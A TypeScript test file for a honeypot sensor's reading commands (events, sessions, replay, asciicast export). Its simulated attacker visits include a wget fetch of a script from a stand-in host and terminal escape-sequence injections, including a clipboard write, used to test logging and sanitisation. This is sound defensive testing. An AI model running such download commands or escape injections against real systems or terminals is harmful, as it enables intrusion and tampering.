import assert from "node:assert/strict";
import { execFileSync, spawn } from "node:child_process";
import { readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import test, { after, before } from "node:test";
import { PROGRAM, Site, told, toldJson, UpCommand, utsusemi, visitByTelnet } from "../rig/command.ts";
import { needs } from "../rig/needs.ts";

/**
 * Two visits to a real sensor, then every command that reads: once beside the running sensor, once after it has ended. The answers must be
 * the same.
 */
const site = new Site();
const DROPPED = "dropped by the visitor";
let beside: Answers;
let afterwards: Answers;

interface Answers {
  readonly events: string;
  readonly sessions: string;
  readonly files: string;
}

before(async () => {
  const up = await new UpCommand(site).ready();
  await visitByTelnet(up.port("telnet"), ["uname -s", "printf 'a\\033]52;c;QUFB\\007b\\033P+q544e\\033\\\\c\\033[21td\\033[?1049he\\n'"]);
  await visitByTelnet(up.port("telnet"), [
    `echo -n '${DROPPED}' > /tmp/x`,
    "cat /tmp/x",
    "wget -t1 -T1 http://198.51.100.7/x.sh",
    "nosuchthing",
  ]);
  await up.until(() => up.out.split("terminal.recorded").length > 2, "both recordings");
  beside = await answers();
  await up.end("SIGTERM");
  afterwards = await answers();
});

after(() => site[Symbol.dispose]());

async function answers(): Promise<Answers> {
  const [events, sessions, files] = [
    await told(["events", "--json", "--kind", "command.input", ...site.place]),
    await told(["sessions", "--json", ...site.place]),
    await told(["files", "--json", ...site.place]),
  ];
  return { events, sessions, files };
}

const events = (...options: readonly string[]) => toldJson(["events", ...site.place, ...options]);

test("the answers are the same with the sensor and without it", () => {
  assert.deepEqual(afterwards, beside);
  assert.notEqual(beside.events, "");
});

test("events: oldest first, by kind, source, words, time and number", async () => {
  const all = await events();
  const times = all.map((event) => String(event["time"]));
  assert.deepEqual(times, [...times].sort());
  assert.deepEqual(
    (await events("--kind", "auth.attempt")).map((event) => event["kind"]),
    ["auth.attempt", "auth.attempt"],
  );
  assert.equal((await events("--source", "127.0.0.1")).length, all.filter((event) => event["source"] !== undefined).length);
  assert.deepEqual(await events("--source", "192.0.2.1"), []);
  assert.deepEqual(
    (await events("--text", "198.51.100.7 wget", "--kind", "download.request")).map((event) => event["kind"]),
    ["download.request"],
  );
  assert.deepEqual(
    (await events("--limit", "2")).map((event) => event["id"]),
    all.slice(-2).map((event) => event["id"]),
  );
  const middle = all[Math.floor(all.length / 2)];
  const since = await events("--since", String(middle?.["time"]));
  assert.ok(since.length < all.length && since.length > 0);
  assert.deepEqual(await events("--since", "2999-01-01"), []);
});

test("events: what is misspelt is named, with the nearest", async () => {
  const { code, out, err } = await utsusemi(["events", "--kind", "auth.atempt", ...site.place]);
  assert.deepEqual([code, out], [1, ""]);
  assert.match(err, /auth\.attempt/);
  assert.match((await utsusemi(["events", "--limit", "x"])).err, /whole number/);
  assert.match((await utsusemi(["events", "--since", "yesterday"])).err, /2026-01-31/);
  assert.match((await utsusemi(["events", "--jsn"])).err, /--json/);
  assert.match((await utsusemi(["evnts"])).err, /events/);
});

test("events | head: a reader who leaves is no fault", needs("bash"), () => {
  const run = 'set -o pipefail; for i in $(seq 20); do "$0" "$@" | head -n 1 > /dev/null || exit 9; done';
  execFileSync("bash", ["-c", run, process.execPath, PROGRAM, "events", ...site.place], { stdio: ["ignore", "ignore", "inherit"] });
});

test("sessions: newest first, in a table", async () => {
  const [heading = "", first = "", second = "", ...rest] = (await told(["sessions", ...site.place])).trimEnd().split("\n");
  assert.match(heading, /^id +start +length +decoy +from +logins +lines +files/);
  for (const line of [first, second]) assert.match(line, /^[0-9a-f]{6} +\d{4}-\d\d-\d\d \d\d:\d\d:\d\d +.* telnet +127\.0\.0\.1 +1 \(in\)/);
  assert.deepEqual(rest, []);
});

const [newest, oldest] = ["newest", "oldest"] as const;
async function visit(which: typeof newest | typeof oldest): Promise<string> {
  const ids = (await toldJson(["sessions", ...site.place])).map((session) => String(session["id"]));
  return (which === newest ? ids[0] : ids[1]) ?? "";
}

test("session: one visit in plain words; the end of its id is enough", async () => {
  const id = await visit(newest);
  const text = await told(["session", id.slice(-6), ...site.place]);
  assert.equal(text, await told(["session", id, ...site.place]));
  assert.match(text, /^127\.0\.0\.1 came to the telnet decoy on 127\.0\.0\.1, port \d+ at .* UTC\.$/m);
  assert.match(text, /^Got in at .* as "root" with password "123456"/m);
  assert.match(text, /^ {2}\d\d:\d\d:\d\d {2}\/root> cat \/tmp\/x$/m);
  assert.match(text, /^Asked for "http:\/\/198\.51\.100\.7\/x\.sh" with wget; nothing was fetched\.$/m);
  assert.match(text, /nosuchthing/);
  assert.match(text, /^It ended at /m);
  assert.match(text, new RegExp(`^Recorded: utsusemi replay ${id.slice(-6)}$`, "m"));
});

test("session: an end that fits several visits, and one that fits none", async () => {
  const ids = await Promise.all([visit(newest), visit(oldest)]);
  const none = await utsusemi(["session", "zzzzzz", ...site.place]);
  assert.deepEqual([none.code, none.out], [1, ""]);
  assert.match(none.err, /no visit zzzzzz.*\n.*utsusemi sessions.*\(not-found\)/);
  const both = await utsusemi(["session", "", ...site.place]);
  assert.equal(both.code, 1);
  assert.match(both.err, /2 visits end in/);
  assert.equal((await toldJson(["session", ids[0] ?? "", ...site.place]))[0]?.["session"], ids[0]);
});

test("replay: shows what the visitor saw, without what would act on a terminal; faster when told", async () => {
  const id = await visit(oldest);
  const started = Date.now();
  const text = await told(["replay", id.slice(-6), "--speed", "1000", ...site.place]);
  assert.ok(Date.now() - started < 10_000);
  assert.match(text, /uname -s[\s\S]*Linux/);
  assert.match(text, /abcde/);
  assert.ok(!/\x1b[\]P]|\x1b\[21t|\x1b\[\?1049h/.test(text), JSON.stringify(text));
});

test("replay --cast: asciicast v2, with the times of the visit and its bytes as they were", async () => {
  const id = await visit(oldest);
  const file = join(site.folder, "visit.cast");
  const { code, err, out } = await utsusemi(["replay", id, "--cast", file, ...site.place]);
  assert.deepEqual([code, out], [0, ""]);
  assert.match(err, /as it was/);
  assert.equal(statSync(file).mode & 0o777, 0o600);
  const text = readFileSync(file, "utf8");
  assert.equal(await told(["replay", id, "--cast", "-", ...site.place]), text);
  const [head, ...moments] = text
    .trimEnd()
    .split("\n")
    .map((line): unknown => JSON.parse(line));
  const { version, width, height, timestamp } = Object(head);
  assert.deepEqual([version, width, height], [2, 80, 24]);
  assert.ok(Math.abs(Number(timestamp) - Date.now() / 1000) < 600);
  let last = 0;
  let shown = "";
  for (const moment of moments) {
    assert.ok(Array.isArray(moment) && moment.length === 3 && typeof moment[0] === "number" && ["o", "i", "r"].includes(moment[1]));
    assert.ok(moment[0] >= last);
    last = moment[0];
    if (moment[1] === "o") shown += moment[2];
  }
  assert.ok(shown.includes("\x1b]52;c;QUFB\x07"), JSON.stringify(shown));
});

test("replay: a visit or a terminal that was not recorded", async () => {
  assert.match((await utsusemi(["replay", "zzzz", ...site.place])).err, /\(not-found\)/);
  const { code, err } = await utsusemi(["replay", await visit(oldest), "--terminal", "7", ...site.place]);
  assert.equal(code, 1);
  assert.match(err, /no recording 7/);
});

test("with no state at all every reading command says so, and what to do", async () => {
  const place = ["--state", join(site.folder, "nowhere")];
  const commands = [["events"], ["events", "--json"], ["sessions"], ["session", "x"], ["replay", "x"], ["files"], ["journal", "verify"]];
  for (const command of commands) {
    const { code, out, err } = await utsusemi([...command, ...place]);
    assert.deepEqual([code, out], [1, ""], command.join(" "));
    assert.match(err, /Nothing was ever kept in .*nowhere\.\n.*utsusemi up.*\(state-unusable\)/);
  }
});

test("events --follow: without a sensor it says that it needs one", async () => {
  const { code, err } = await utsusemi(["events", "--follow", ...site.place]);
  assert.equal(code, 1);
  assert.match(err, /No sensor answers.*\n.*utsusemi up.* \(sensor-down\)/);
});

test("events --follow: every event once, from before, from the moment of asking and from later", async () => {
  using own = new Site();
  await using up = await new UpCommand(own, ["--json"]).ready();
  const visits = Array.from({ length: 6 }, () => visitByTelnet(up.port("telnet"), ["id"]));
  const follower = spawn(process.execPath, [PROGRAM, "events", "--follow", "--json", "--limit", "10000", ...own.place]);
  let followed = "";
  follower.stdout.setEncoding("utf8").on("data", (text: string) => {
    followed += text;
  });
  const closed = new Promise((resolve) => follower.once("close", resolve));
  await Promise.all(visits);
  const giveUp = Date.now() + 15_000;
  while (!followed.includes("\n") && Date.now() < giveUp) await new Promise((resolve) => setTimeout(resolve, 10));
  await visitByTelnet(up.port("telnet"), ["echo later"]);
  await up.end("SIGTERM");
  await closed;
  const ids = (text: string) =>
    text
      .trimEnd()
      .split("\n")
      .map((line) => String(JSON.parse(line).id))
      .sort();
  assert.deepEqual(ids(followed), ids(up.out));
});
